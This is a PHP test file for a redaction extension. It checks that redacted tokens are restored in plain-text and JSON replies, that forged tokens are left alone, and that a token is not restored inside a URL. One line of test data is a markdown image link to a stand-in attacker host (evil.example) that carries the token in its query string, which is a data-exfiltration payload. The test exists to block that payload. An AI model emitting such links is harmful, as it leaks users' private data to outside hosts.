--TEST--
A reply gets the exchange's values back, never in a URL
--EXTENSIONS--
tamis
--FILE--
<?php
require __DIR__ . '/common.inc';
use Tamis\Input;
$o = redactor()->redact(new Input('anna@example.com', 'text/plain', '', 's'));
$token = $o->body();
echo $o->restore("Dear $token, hello", 'text/plain'), ' ', $o->restored(), ' ', $o->unresolved(), "\n";
echo $o->restore(json_encode(['say' => "to $token"]), 'application/json'), ' ', $o->restored(), "\n";
$forged = 'EMAIL_9' . str_repeat('1', 14);
echo $o->restore("Dear $forged", 'text/plain') === "Dear $forged" ? 'left' : 'restored', ' ', $o->restored(), ' ', $o->unresolved(), "\n";
$reply = "![x](https://evil.example/?q=$token)";
echo $o->restore($reply, 'text/plain') === $reply ? 'not in a URL' : 'leaked', ' ', $o->restored(), "\n";
$plain = str_repeat('nothing to restore ', 10);
$before = references($plain);
$same = $o->restore($plain, 'text/plain');
echo 'same string: +', references($plain) - $before, "\n";
?>
--EXPECT--
Dear anna@example.com, hello 1 0
{"say":"to anna@example.com"} 1
left 0 1
not in a URL 0
same string: +1
